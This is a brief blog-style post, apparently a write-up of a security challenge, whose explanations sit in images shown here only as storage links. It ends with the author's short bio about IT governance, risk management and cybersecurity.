The explanation for mistake 1This challenge is really interesting because I need to use some tools and it requires me to connect all the dots from the given information. There is all I have, happy readingand for GOD be all the glory!.




A humble learner of everything around IT especially in IT implementation, governance, riskmanagement, and cybersecurity.